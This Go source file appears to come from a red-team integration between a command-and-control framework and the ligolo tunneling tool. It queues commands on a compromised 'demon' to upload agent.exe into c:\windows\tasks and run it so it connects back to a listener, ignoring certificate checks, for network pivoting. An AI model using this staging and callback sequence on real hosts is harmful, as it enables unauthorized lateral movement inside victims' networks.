// Package launcher stages the ligolo agent on a remote demon and tells it to
// connect back to the listener.
package launcher

import (
	"context"
	"errors"
	"fmt"

	"github.com/sirupsen/logrus"

	"ligopivot/fault"
	"ligopivot/notify"
	"ligopivot/settings"
)

// DefaultStagingDir is where the agent is uploaded on the remote host.
const DefaultStagingDir = `c:\windows\tasks`

// Task is a handle to a remote task that accepts further commands.
type Task interface {
	ID() string
	// Command queues line on the task. It does not wait for the result.
	Command(ctx context.Context, line string) error
}

// Tasker opens remote tasks on a demon.
type Tasker interface {
	NewTask(ctx context.Context, target, message string) (Task, error)
}

// Liveness reports whether the listener session is up.
type Liveness interface {
	IsRunning(ctx context.Context) bool
}

type Launcher struct {
	tasker     Tasker
	liveness   Liveness
	settings   *settings.Settings
	notifier   notify.Notifier
	agentBin   string
	stagingDir string
	log        logrus.FieldLogger
}

type Config struct {
	Tasker   Tasker
	Liveness Liveness
	Settings *settings.Settings
	Notifier notify.Notifier
	// AgentBin is the local path of the agent uploaded to the demon.
	AgentBin   string
	StagingDir string
	Log        logrus.FieldLogger
}

func New(c Config) (*Launcher, error) {
	if c.Tasker == nil || c.Liveness == nil || c.Settings == nil {
		return nil, errors.New("launcher: tasker, liveness and settings are required")
	}
	if c.AgentBin == "" {
		c.AgentBin = "agent.exe"
	}
	if c.StagingDir == "" {
		c.StagingDir = DefaultStagingDir
	}
	if c.Notifier == nil {
		c.Notifier = notify.Discard
	}
	if c.Log == nil {
		c.Log = logrus.StandardLogger()
	}

	return &Launcher{
		tasker:     c.Tasker,
		liveness:   c.Liveness,
		settings:   c.Settings,
		notifier:   c.Notifier,
		agentBin:   c.AgentBin,
		stagingDir: c.StagingDir,
		log:        c.Log,
	}, nil
}

// Commands returns the task commands, in order, for the current listener.
func (l *Launcher) Commands() []string {
	return []string{
		"cd " + l.stagingDir,
		"upload " + l.agentBin,
		fmt.Sprintf(`shell .\agent.exe -connect %s -ignore-cert`, l.settings.GetListenerEndpoint()),
	}
}

// Launch tasks target with uploading the agent and running it against the
// listener. The listener session must be running and its address must be
// reachable from the target.
func (l *Launcher) Launch(ctx context.Context, target string) (Task, error) {
	const action = "connect agent"

	if !l.liveness.IsRunning(ctx) {
		err := fault.Precondition(action, "the ligolo server is not running, start it first")
		notify.Err(l.notifier, err)
		return nil, err
	}
	if err := l.settings.Dialable(action); err != nil {
		notify.Err(l.notifier, err)
		return nil, err
	}

	endpoint := l.settings.GetListenerEndpoint()
	message := "Tasked demon to connect back to the ligolo server running on " + endpoint
	task, err := l.tasker.NewTask(ctx, target, message)
	if err != nil {
		err = fmt.Errorf("failed to create task for %s: %w", target, err)
		notify.Err(l.notifier, err)
		return nil, err
	}

	log := l.log.WithFields(logrus.Fields{"target": target, "task": task.ID()})
	for _, line := range l.Commands() {
		if err := task.Command(ctx, line); err != nil {
			err = fmt.Errorf("failed to queue %q on task %s: %w", line, task.ID(), err)
			notify.Err(l.notifier, err)
			return task, err
		}
		log.WithField("command", line).Debug("queued")
	}

	return task, nil
}
